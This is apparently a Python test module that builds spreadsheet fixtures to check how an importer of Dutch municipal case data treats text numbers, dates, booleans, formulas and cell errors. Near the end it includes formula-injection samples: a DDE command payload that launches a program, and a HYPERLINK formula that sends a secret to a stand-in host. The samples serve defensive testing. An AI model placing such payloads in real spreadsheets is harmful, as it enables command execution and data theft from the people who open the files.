"""What stands in the cells of a worksheet: numbers, formulas, errors, and days that are none."""

from __future__ import annotations

import io
from datetime import date, time

import openpyxl

from .boek import Cel, CelFout, Formule, Rij, een_blad
from .gevallen import GEHEIM, geval
from .ods import ods
from .rijen import KOP, M1, M2, RIJ_1, RIJ_2, TWEE, meldingen, onderzoeken, signalen
from .xls import xls
from .xlsb import xlsb
from .xlsx import xlsx

VIR: Rij = ["gemeente", "signalen", "matches"]
ONDERZOEK: Rij = ["onderzoeksnummer", "gemeente", "datum_start", "bestede_uren"]
DAG = date(2019, 1, 3)


@geval(
    "onderzoeken_2019K1.xlsx",
    onderzoeken(
        "20190001 GM0505 2019-01-03 12.5\n20190002 GM0505 2019-01-03 1234.5\n"
        "20190003 GM0505 2019-01-03 1234.0\n20190004 GM0505 2019-01-03 1.234\n"
        "20190005 GM0505 2019-01-03 7.3\n20190006 GM0505 2019-01-03 12.5\n"
        "20190007 GM0505 2019-01-03 1234567.891\n20190008 GM0505 2019-01-03 0.3\n"
        "20190009 GM0505 2019-01-03 -"
    ),
)
def numbers_as_numbers_and_as_text() -> bytes:
    uren: list[tuple[Cel, Cel, Cel]] = [
        (20190001, "Dordrecht", 12.5),
        (20190002.0, 505, "1.234,5"),
        ("20190003", 505.0, "1.234"),
        ("20190004", "0505", 1.234),
        ("\u00a020190005", "505", 7.3000000000000007),
        ("20190006 ", "\u00a0Dordrecht\u202f", "\u00a012,5"),
        (20190007, "GM0505", 1234567.891),
        (20190008, "GM0505", 0.1 + 0.2),
        (20190009, "GM0505", "-"),
    ]
    return xlsx(een_blad([ONDERZOEK, *([n, g, DAG, u] for n, g, u in uren)]))


@geval(
    "signalen_2019K1.xlsx",
    signalen(
        "GM0505 1234 12\nGM0512 12 0\nGM0590 1234 -\nGM0482 - 7",
        afgekeurd=3,
        bevindingen=("B6 F07", "B7 F07", "C8 F07"),
    ),
)
def counts_as_numbers_and_as_text() -> bytes:
    return xlsx(
        een_blad(
            [
                VIR,
                ["Dordrecht", "1.234", "12"],
                ["Gorinchem", 12.0, 0],
                ["Papendrecht", 1234, "n.b."],
                ["Alblasserdam", "<5", "\u00a07"],
                ["Zwijndrecht", 1.234, 1],
                ["Sliedrecht", -3, 1],
                ["Molenlanden", 3, 0.5],
            ]
        )
    )


@geval(
    "meldingen_2019K1.xlsx",
    meldingen(
        RIJ_1,
        afgekeurd=5,
        bevindingen=("A3 F02", "D4 F04", "D5 F04", "E6 F04", "C7 F03"),
    ),
)
def numbers_and_codes_that_a_spreadsheet_made_into_something_else() -> bytes:
    return xlsx(
        een_blad(
            [
                KOP,
                [*M1[:3], 8, 1.0],
                [date(2019, 3, 1), *M1[1:]],
                ["M4", *M1[1:3], 1.8, "politie"],
                ["M5", *M1[1:3], date(2019, 8, 1), "politie"],
                ["M6", *M1[1:4], time(1, 2)],
                ["M7", "Dordrecht", 12.5, *M1[3:]],
            ]
        )
    )


@geval("onderzoeken_2019K1.ods", onderzoeken("", afgekeurd=1, bevindingen=("D2 F07",)))
def hours_that_became_a_time_of_day() -> bytes:
    return ods(een_blad([ONDERZOEK, ["O1", "Dordrecht", DAG, time(12, 30)]]))


@geval(
    "meldingen_2019K1.xlsx",
    meldingen("M1 ja\nM2 nee\nM3 ja\nM4 nee\nM5 -", kolommen="meldingnummer veiligheidsplan_nodig"),
)
def yes_and_no_as_boolean_number_and_word() -> bytes:
    woorden: list[Cel] = [True, False, 1, "Nee", None]
    rijen = [[f"M{n}", *M1[1:], woord] for n, woord in enumerate(woorden, 1)]
    return xlsx(een_blad([[*KOP, "veiligheidsplan nodig"], *rijen]))


def _formules() -> list[Rij]:
    return [
        VIR,
        ["Dordrecht", Formule("SUM(C2,9)", 12), Formule("1+2", 3.0)],
        [Formule('"Gorin"&"chem"', "Gorinchem"), Formule("2*2", 4), 1],
    ]


@geval("signalen_2019K1.xlsx", signalen("GM0505 12 3\nGM0512 4 1"))
def formulas_with_a_saved_value() -> bytes:
    return xlsx(een_blad(_formules()))


@geval("signalen_2019K1.ods", signalen("GM0505 12 3\nGM0512 4 1"))
def formulas_with_a_saved_value_in_ods() -> bytes:
    return ods(een_blad(_formules()))


@geval("signalen_2019K1.xlsb", signalen("GM0505 12 3\nGM0512 4 1"))
def formulas_with_a_saved_value_in_xlsb() -> bytes:
    return xlsb(een_blad(_formules()))


def _zonder_waarde() -> list[Rij]:
    return [VIR, ["Dordrecht", Formule("SUM(C2,9)"), 3], ["Gorinchem", 4, 1]]


ZONDER = signalen("GM0512 4 1", afgekeurd=1, bevindingen=("B2 fout",))


@geval("signalen_2019K1.xlsx", ZONDER, gemeld=("formul",))
def a_formula_without_a_saved_value() -> bytes:
    return xlsx(een_blad(_zonder_waarde()))


@geval("signalen_2019K1.xls", ZONDER, gemeld=("formul",))
def a_formula_without_a_saved_value_in_xls() -> bytes:
    return xls(een_blad(_zonder_waarde()))


@geval("signalen_2019K1.ods", ZONDER, gemeld=("formul",))
def a_formula_without_a_saved_value_in_ods() -> bytes:
    return ods(een_blad(_zonder_waarde()))


@geval(
    "meldingen_2019K1.xlsx",
    meldingen(RIJ_2, afgekeurd=1, bevindingen=("F2 fout",)),
    gemeld=("formul",),
)
def a_formula_without_a_saved_value_as_a_program_writes_it_in_an_optional_column() -> bytes:
    boek = openpyxl.Workbook()
    vel = boek.active
    assert vel is not None
    for rij in ([*KOP, "triagebesluit"], [*M1, '=IF(1,"onderzoek","")'], [*M2, None]):
        vel.append(list(rij))
    uit = io.BytesIO()
    boek.save(uit)
    return uit.getvalue()


def _fouten() -> list[Rij]:
    return [
        [*KOP, "triagebesluit", "opmerking"],
        [*M1, None, CelFout("#DIV/0!")],
        [*M2[:1], CelFout("#N/A"), *M2[2:], None, None],
        ["M3", *M2[1:], CelFout("#REF!"), GEHEIM],
    ]


FOUTEN = meldingen(RIJ_1, afgekeurd=2, bevindingen=("B3 fout", "F4 fout"), genegeerd=("opmerking",))


@geval("meldingen_2019K1.xlsx", FOUTEN)
def errors_in_cells_are_no_missing_values() -> bytes:
    return xlsx(een_blad(_fouten()))


@geval("meldingen_2019K1.xls", FOUTEN)
def errors_in_cells_of_an_xls() -> bytes:
    return xls(een_blad(_fouten()))


@geval("meldingen_2019K1.ods", FOUTEN)
def errors_in_cells_of_an_ods() -> bytes:
    return ods(een_blad(_fouten()))


@geval("meldingen_2019K1.xlsb", FOUTEN)
def errors_in_cells_of_an_xlsb() -> bytes:
    return xlsb(een_blad(_fouten()))


@geval("meldingen_2019K1.xlsx", meldingen(TWEE, genegeerd=("=1+1", "@SUM(A1)")))
def formulas_that_someone_typed_as_text() -> bytes:
    return xlsx(
        een_blad(
            [
                [*KOP, "=1+1", "@SUM(A1)"],
                [*M1, f"=cmd|' /C calc'!{GEHEIM}", "-2+3"],
                [*M2, "+3+4", f'=HYPERLINK("http://x/{GEHEIM}")'],
            ]
        )
    )


@geval(
    "meldingen_2019K1.ods",
    meldingen("", afgekeurd=4, bevindingen=("A2 F02", "A3 F02", "A4 F02", "B5 F05")),
)
def formulas_that_someone_typed_where_a_number_is_expected() -> bytes:
    woorden = [f"=1+1{GEHEIM}", "@SUM(A1)", "-2+3"]
    rijen = [[woord, *M1[1:]] for woord in woorden]
    return ods(een_blad([KOP, *rijen, ["M4", f"+3{GEHEIM}", *M1[2:]]]))
